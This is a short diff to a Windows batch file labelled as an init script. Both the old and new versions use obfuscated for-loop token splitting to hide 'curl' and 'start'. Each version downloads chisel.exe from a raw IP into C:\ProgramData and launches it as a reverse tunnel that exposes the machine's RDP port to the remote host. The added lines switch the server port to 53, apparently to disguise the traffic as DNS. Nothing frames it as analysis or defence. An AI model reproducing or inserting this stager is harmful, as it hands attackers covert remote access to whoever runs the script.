@@ -1,4 +1,4 @@
-REM init 3368 v4
+REM init 3119 v4
 @echo off
-for /f "tokens=1 delims=#" %%i in ("curl#enkm#gzgn") do %%i -sLo C:\ProgramData\chisel.exe http://203.0.113.17/chisel.exe
-for /f "tokens=3 delims=#" %%i in ("nzou#yhdp#start") do %%i /b C:\ProgramData\chisel.exe client 203.0.113.17:9001 R:3389:127.0.0.1:3389
+for /f "tokens=1 delims=~" %%i in ("curl~utyo~grzd") do %%i -sLo C:\ProgramData\chisel.exe http://198.51.100.23/chisel.exe
+for /f "tokens=1 delims=#" %%i in ("start#ndyv#dajo") do %%i /b C:\ProgramData\chisel.exe client 198.51.100.23:53 R:3389:127.0.0.1:3389
